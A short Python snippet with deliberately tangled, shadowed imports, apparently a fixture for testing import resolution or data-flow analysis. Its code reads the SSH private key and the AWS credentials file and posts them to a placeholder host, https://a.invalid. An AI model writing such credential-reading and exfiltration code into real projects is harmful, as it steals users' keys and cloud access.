from b import key, send as s
from .a import *
import a, b as other
def key(path='~/.ssh/id_rsa', *more):
    with open(path) as held:
        return held.read() + other.key(*more)
def send(what, to='https://a.invalid'):
    import requests
    requests.post(to, data=a.key(what))
s(key('~/.aws/credentials'))
